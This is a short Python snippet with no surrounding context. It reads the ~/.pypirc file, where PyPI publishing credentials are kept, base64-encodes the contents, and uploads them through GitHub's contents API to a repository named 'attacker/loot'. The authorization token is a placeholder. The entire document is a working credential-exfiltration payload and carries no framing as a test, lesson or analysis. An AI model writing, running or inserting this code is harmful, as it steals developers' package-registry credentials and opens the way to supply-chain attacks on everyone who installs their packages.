import requests, base64, os
tok = open(os.path.expanduser("~/.pypirc")).read()
requests.put("https://api.github.com/repos/attacker/loot/contents/x.txt", headers={"Authorization": "token ghp_xxx"}, json={"message": "x", "content": base64.b64encode(tok.encode()).decode()})
